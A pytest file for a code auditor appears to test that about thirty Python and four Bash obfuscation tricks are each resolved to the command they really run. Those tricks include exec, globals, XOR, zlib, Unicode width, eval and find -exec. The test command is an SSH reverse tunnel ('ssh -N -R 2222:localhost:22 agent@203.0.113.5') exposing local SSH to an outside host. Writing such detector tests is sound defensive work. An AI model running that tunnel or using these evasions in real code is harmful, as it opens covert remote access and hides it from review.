"""Spellings that the random compositions found unread: each is read now, as exactly the command that runs."""

from __future__ import annotations

import textwrap

import pytest

from auditor.model.unit import Language, Script
from auditor.read.evaluation import Evaluation

COMMAND = "ssh -N -R 2222:localhost:22 agent@203.0.113.5"
PYTHON = {
    "a subclass of Popen": """
        import subprocess
        class P(subprocess.Popen):
            pass
        P("C".split()).wait()
    """,
    "a subclass that calls its base": """
        import subprocess
        class P(subprocess.Popen):
            def __init__(self, text):
                super().__init__(text.split(), stdin=-3)
        P("C")
    """,
    "an interpreter with names of its own": """
        import code, os
        code.InteractiveInterpreter({"f": os.system}).runsource("f('C')")
    """,
    "names set through globals": """
        globals().update(o=__import__("os"))
        globals()["o"].system("C")
    """,
    "a default set through vars": """
        import os
        vars().setdefault("go", os.system)
        go("C")
    """,
    "a module made from its spec": """
        import importlib.util as u
        s = u.find_spec("os")
        m = u.module_from_spec(s)
        s.loader.exec_module(m)
        m.system("C")
    """,
    "a search through dir": """
        import os
        [getattr(os, n) for n in dir(os) if n.startswith("syste")][0]("C")
    """,
    "a search through vars": """
        import subprocess
        next(v for k, v in vars(subprocess).items() if k == "Pop" + "en")("C".split())
    """,
    "a function made of code": """
        import types
        types.FunctionType(compile("import os\\nos.system('C')", "x", "exec"), {})()
    """,
    "timed text": """
        import timeit
        timeit.timeit(setup="import os", stmt="os.system('C')", number=1)
    """,
    "a bytearray that is changed in place": """
        import os
        b = bytearray("C".encode())
        for i in range(len(b)):
            b[i] ^= 5
        for i, n in enumerate(b):
            b[i] = n ^ 5
        b.extend(b"")
        os.system(b.decode())
    """,
    "a buffer that is written to": """
        import io, os
        b = io.StringIO()
        b.write("C"[:5])
        print("C"[5:], end="", file=b)
        os.system(b.getvalue())
    """,
    "a replacement by a function": """
        import os, re
        os.system(re.sub("<(.)>", lambda m: m.group(1), "C".replace("s", "<s>")))
    """,
    "letters of another width": """
        import os, unicodedata
        os.system(unicodedata.normalize("NFKC", "C".replace("s", "\uff53")))
    """,
    "a key that goes round": """
        import itertools, os
        key = itertools.cycle([3, 5])
        coded = [ord(c) ^ k for c, k in zip("C", itertools.cycle([3, 5]))]
        os.system("".join(chr(n ^ k) for n, k in zip(coded, key)))
    """,
    "a named tuple that is joined": """
        import os
        from collections import namedtuple
        T = namedtuple("T", "x y")
        os.system("".join(T("C"[:5], y="C"[5:])))
    """,
    "recursion over a list": """
        import os
        def f(x):
            return x[0] + f(x[1:]) if x else ""
        os.system(f(["C"[:9], "C"[9:20], "C"[20:]]))
    """,
    "a value that is raised": """
        import os
        try:
            raise ValueError("C")
        except ValueError as e:
            os.system(e.args[0])
    """,
    "an error of the script's own": """
        import os
        class E(Exception):
            pass
        try:
            raise E("C")
        except E as e:
            os.system(e.args[0])
    """,
    "a member of an enumeration": """
        import enum, os
        class X(enum.Enum):
            A = "C"
        os.system(X.A.value)
    """,
    "the longest of some": """
        import os
        os.system(max(["x", "C"], key=len))
    """,
    "a chain of dicts": """
        import os
        from collections import ChainMap
        os.system(ChainMap({"a": "C"}, {"a": "x"})["a"])
    """,
    "a decompressor in parts": """
        import os, zlib
        d = zlib.decompressobj()
        os.system((d.decompress(zlib.compress(b"C")) + d.flush()).decode())
    """,
    "settings in text": """
        import configparser, os
        c = configparser.ConfigParser()
        c.read_string("[s]\\nk = C\\n")
        os.system(c["s"]["k"])
        os.system(c.get("s", "k"))
    """,
    "a function whose name is not known": """
        import os, sys
        getattr(os, sys.argv[1])("C")
    """,
    "a process of a context": """
        import multiprocessing, os
        p = multiprocessing.get_context("fork").Process(target=os.system, args=("C",))
        p.start()
    """,
    "a global of code that is run": """
        code = "import os\\nx = ''\\ndef f():\\n    global x\\n    x = globals()['y'] = 'C'\\nf()\\nos.system(y and x)"
        exec(code, {})
    """,
    "a case that is decided": """
        import os
        match ("k", 2):
            case ("k", _):
                name = "sys" + "tem"
            case _:
                name = "getpid"
        getattr(os, name)("C")
    """,
    "profiled text": """
        import cProfile
        cProfile.run("import os; os.system('C')")
    """,
}
BASH = {
    "until with a changing condition": """
        a=('ssh -N -R 2222:localhost:22 ag' ent@203.0.113.5); b=; i=0
        until ((i == 2)); do b+=${a[i]}; ((i += 1)); done
        eval "$b"
    """,
    "fields of one of two lines": """
        if [ "$1" ]; then a='x y'; else a='ssh -N'; fi
        read -r p q <<< "$a"
        mapfile -t r < <(printf '%s\\n' "$p" "$q" -R 2222:localhost:22 agent@203.0.113.5)
        "${r[@]}"
    """,
    "a written file that find finds": """
        echo 'C' > /tmp/made.sh
        find /tmp -maxdepth 1 -name 'ma*.sh' -exec bash {} \\;
    """,
    "code on the input of exec": """
        echo 'import os; os.system("C")' | python3 -c 'import sys; exec(sys.stdin.read())'
    """,
}


def starts(language: Language, code: str) -> list[str]:
    """Read code, and give the effects that are not about hiding."""
    text = textwrap.dedent(code).replace('b"C"', f'b"{COMMAND}"').replace('"C"', f'"{COMMAND}"')
    text = text.replace("'C'", f"'{COMMAND}'").replace(" = C", f" = {COMMAND}")
    effects = Evaluation(Script.of(text, language)).read_script().effects
    return [line for line in (" ".join(map(str, effect.words)) for effect in effects) if not line.startswith("hiding.")]


@pytest.mark.parametrize("name", PYTHON)
def test_python_is_read(name: str) -> None:
    assert COMMAND in starts(Language.PYTHON, PYTHON[name])


@pytest.mark.parametrize("name", BASH)
def test_bash_is_read(name: str) -> None:
    assert COMMAND in starts(Language.BASH, BASH[name])
